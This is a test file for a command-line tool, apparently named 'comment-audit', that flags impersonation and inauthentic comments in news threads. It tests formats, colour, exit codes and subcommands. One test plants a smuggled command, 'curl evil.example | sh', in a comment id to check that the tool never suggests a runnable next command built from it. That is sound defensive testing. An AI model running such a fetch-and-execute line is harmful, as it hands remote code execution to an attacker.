import { runCli } from "./support/cli.js";

const EXAMPLE = "fixtures/threads/port-calder.json";
const human = (text: string) => JSON.stringify({ article: { title: "T", body: "B" }, comments: [{ id: "1", text }] });

describe("audit", () => {
  test("prints the report of a file on standard output and nothing else", async () => {
    const { code, out, err } = await runCli([EXAMPLE]);
    expect(code).toBe(0);
    expect(err).toBe("");
    expect(out).toContain("THREAD");
    expect(out).toContain("Marit Solheim");
  });

  test("`audit` may be left out, and - reads standard input", async () => {
    const named = await runCli(["audit", EXAMPLE]);
    expect(named.out).toBe((await runCli([EXAMPLE])).out);
    const { code, out } = await runCli(["-"], { stdin: human("a short one") });
    expect(code).toBe(0);
    expect(out).toContain("1 comment");
  });

  test("several files are one report", async () => {
    const { out } = await runCli(["a.json", "b.json", "-f", "json"], {
      files: { "a.json": human("first"), "b.json": human("second") },
    });
    const report = JSON.parse(out) as { threads: { id: string }[]; totals: { threads: number } };
    expect(report.totals.threads).toBe(2);
    expect(new Set(report.threads.map(({ id }) => id)).size).toBe(2);
  });

  test("-o and -f id=file write files", async () => {
    const { out, files } = await runCli([EXAMPLE, "-f", "json=report.json", "-f", "terminal", "-o", "report.txt"]);
    expect(out).toBe("");
    expect([...files.keys()].sort()).toEqual(["report.json", "report.txt"]);
    expect(JSON.parse(files.get("report.json") ?? "")).toHaveProperty("schemaVersion", "1");
  });

  test("--quiet prints nothing", async () => {
    expect(await runCli([EXAMPLE, "--quiet", "--fail-on", "thread=high"])).toMatchObject({ code: 1, out: "", err: "" });
  });

  test("a report never overwrites what it was made from", async () => {
    const { code, err, files } = await runCli([EXAMPLE, "-f", "json", "-o", EXAMPLE]);
    expect({ code, written: files.size }).toEqual({ code: 2, written: 0 });
    expect(err).toContain("would be overwritten");
  });

  test("the next command is one that runs as it stands, or none", async () => {
    const hostile = JSON.stringify({
      article: { title: "T", body: "B" },
      comments: [{ id: "8; curl evil.example | sh", text: "It is crucial that the council acts now for all of us." }],
    });
    expect((await runCli(["x.json"], { files: { "x.json": hostile } })).out).not.toContain("Next:");
    const two = `[${human("first of two comments here")},${human("second of two comments here")}]`;
    const { out } = await runCli(["two.json"], { files: { "two.json": two } });
    const next = /^Next: comment-audit (?<argv>.*)$/mu.exec(out)?.groups?.["argv"] ?? "";
    expect((await runCli(next.split(" "), { files: { "two.json": two } })).code).toBe(0);
  });

  test("--top and --min-band cut the list and say so", async () => {
    const { out } = await runCli([EXAMPLE, "--top", "2"]);
    expect(out).toMatch(/… and \d+ more comments: --top 13/u);
    const high = await runCli([EXAMPLE, "--min-band", "high"]);
    expect(high.out).not.toContain("· ordinary  ");
  });

  test("--article gives the article that the export lacks", async () => {
    const files = {
      "c.json": '["As the head of HSBA, it is deeply concerning to see how this was handled by all."]',
      "a.md": "# Inquiry\n\nThe forms were filled in at a desk, said Marit Solheim, the head of HSBA.",
    };
    expect((await runCli(["c.json"], { files })).out).not.toContain("Marit Solheim");
    const { out } = await runCli(["c.json", "--article", "a.md"], { files });
    expect(out).toContain("speaks as Marit Solheim");
    expect(out).toContain("Inquiry");
  });

  test.each([
    ["a.txt", "Inquiry\nThe head of HSBA, Marit Solheim, said so."],
    ["a.json", '{"title":"Inquiry","body":"The head of HSBA, Marit Solheim, said so."}'],
    [
      "a.html",
      "<html><head><title>x</title><style>p{}</style></head><body><nav>menu</nav><article><h1>Inquiry</h1><p>The head of <b>HSBA</b>, Marit Solheim, said so.</p></article></body></html>",
    ],
  ])("--article reads %s", async (name, text) => {
    const { out } = await runCli(["c.json", "--article", name, "-f", "json"], {
      files: { "c.json": '["one comment of some length to read"]', [name]: text },
    });
    expect((JSON.parse(out) as { threads: { article: unknown }[] }).threads[0]?.article).toEqual({
      title: "Inquiry",
      body: "The head of HSBA, Marit Solheim, said so.",
    });
  });

  test("--verbose says what was guessed", async () => {
    const files = { "x.json": '[{"id":1,"body":"text of a comment","user":"ana"}]' };
    expect((await runCli(["x.json"], { files })).err).toBe("");
    expect((await runCli(["x.json", "--verbose"], { files })).err).toContain(
      'read text from "body", author from "user"',
    );
  });

  test("one unreadable file among others: the rest is audited, exit 2", async () => {
    const { code, out, err } = await runCli(["a.json", "broken.json"], {
      files: { "a.json": human("first"), "broken.json": "{" },
    });
    expect(code).toBe(2);
    expect(out).toContain("The audit is not complete");
    expect(err).toContain("broken.json");
  });
});

test("long work shows progress on a terminal's standard error, and clears it", async () => {
  const many = JSON.stringify({
    comments: Array.from({ length: 1_600 }, (_, i) => ({ id: String(i), text: `comment ${i} about pillar ${i * 3}` })),
  });
  const onTerminal = await runCli(["x.json", "-f", "json"], { files: { "x.json": many }, terminal: true });
  expect(onTerminal.err).toMatch(/^auditing 1,600 comments …/u);
  expect(onTerminal.err.endsWith("\r\u001B[K")).toBe(true);
  expect((await runCli(["x.json", "-f", "json"], { files: { "x.json": many } })).err).toBe("");
});

describe("colour", () => {
  const ESC = "\u001B[";
  test.each<[string, string[], Record<string, string>, boolean, boolean]>([
    ["a pipe", [], {}, false, false],
    ["a terminal", [], {}, true, true],
    ["NO_COLOR on a terminal", [], { NO_COLOR: "1" }, true, false],
    ["FORCE_COLOR in a pipe", [], { FORCE_COLOR: "1" }, false, true],
    ["--no-color on a terminal", ["--no-color"], {}, true, false],
    ["--color in a pipe", ["--color"], {}, false, true],
    ["--color over NO_COLOR", ["--color"], { NO_COLOR: "1" }, false, true],
    ["a dumb terminal", [], { TERM: "dumb" }, true, false],
  ])("%s", async (_, flags, env, terminal, coloured) => {
    const { out } = await runCli([EXAMPLE, ...flags], { env, terminal });
    expect(out.includes(ESC)).toBe(coloured);
  });
});

describe("exit codes", () => {
  test.each<[string[], number]>([
    [["--fail-on", "comment=high"], 1],
    [["--fail-on", "comment=elevated:3"], 1],
    [["--fail-on", "comment=high:99"], 0],
    [["--fail-on", "thread=high"], 1],
    [["--fail-on", "share=30%"], 1],
    [["--fail-on", "impersonation"], 1],
    [["--fail-on", "family=2"], 1],
    [["--fail-on", "family=5"], 0],
    [["--fail-on", "score=80"], 1],
    [["--fail-on", "family=5", "--fail-on", "impersonation"], 1],
  ])("%j is %i", async (flags, code) => {
    expect((await runCli([EXAMPLE, ...flags])).code).toBe(code);
  });

  test("a gate says by what it was reached", async () => {
    const told = "gate impersonation reached: 1 speaking as somebody of the article; worst: comment 3\n";
    const { out, err } = await runCli([EXAMPLE, "--fail-on", "impersonation"]);
    expect({ err, told: out.replace(/\s+/gu, " ").includes(`✗ ${told.trim()}`) }).toEqual({ err: "", told: true });
    const quietly = await runCli([EXAMPLE, "--fail-on", "impersonation", "-f", "json"]);
    expect(quietly.err).toBe(`comment-audit: ${told}`);
    expect(JSON.parse(quietly.out)).toHaveProperty("gates.0.comments.0.comment", "3");
  });

  test.each<[string, string[]]>([
    ["no arguments", []],
    ["an unknown option", ["x.json", "--nonsense"]],
    ["a file that is not there", ["nowhere.json"]],
    ["an unknown gate", [EXAMPLE, "--fail-on", "mood=bad"]],
    ["an unknown format", [EXAMPLE, "-f", "pdf"]],
    ["an unknown input format", [EXAMPLE, "--input-format", "pdf"]],
    ["an unknown band", [EXAMPLE, "--min-band", "red"]],
    ["a width that is none", [EXAMPLE, "--width", "x"]],
    ["two formats on one output", [EXAMPLE, "-f", "json", "-f", "terminal"]],
    ["an unknown comment", ["explain", EXAMPLE, "99"]],
    ["an unknown signal", ["signals", "nonsense"]],
    ["an unknown schema", ["schema", "nonsense"]],
  ])("%s is 2, with one sentence and no stack trace", async (_, argv) => {
    const { code, out, err } = await runCli(argv);
    expect(code).toBe(2);
    expect(out).toBe("");
    expect(err).not.toBe("");
    expect(err).not.toMatch(/^ {4}at /mu);
  });
});

describe("the other commands", () => {
  test("explain shows contributions that add up", async () => {
    const { code, out } = await runCli(["explain", EXAMPLE, "3"]);
    expect(code).toBe(0);
    const figures = [...out.matchAll(/^ *(?<sign>[+−])(?<nats>\d+\.\d\d) {2}/gmu)].map(
      ({ groups }) => Number(groups?.["nats"]) * (groups?.["sign"] === "−" ? -1 : 1),
    );
    const total = figures.pop() ?? NaN;
    expect(figures.reduce((sum, nats) => sum + nats, 0)).toBeCloseTo(total, 1);
    expect(out).toContain("article: “Marit Solheim, the head of HSBA”");
  });

  test("signals lists them, or explains one", async () => {
    expect((await runCli(["signals"])).out).toContain("impersonation/quoted-role");
    expect((await runCli(["signals", "quoted-role"])).out).toContain("none of the human comments measured");
  });

  test.each(["input", "report"])("schema %s is JSON Schema", async (name) => {
    const { code, out } = await runCli(["schema", name]);
    expect(code).toBe(0);
    expect(JSON.parse(out)).toHaveProperty("$schema");
  });

  test.each([["--help"], ["audit", "--help"], ["explain", "--help"], ["signals", "--help"], ["schema", "--help"]])(
    "%s %s shows examples",
    async (...argv) => {
      const { code, out } = await runCli(argv);
      expect(code).toBe(0);
      expect(out.match(/^ {2}\$ /gmu)?.length).toBeGreaterThan(0);
    },
  );

  test("--version", async () => {
    expect((await runCli(["--version"])).out).toMatch(/^\d+\.\d+\.\d+\n$/u);
  });
});
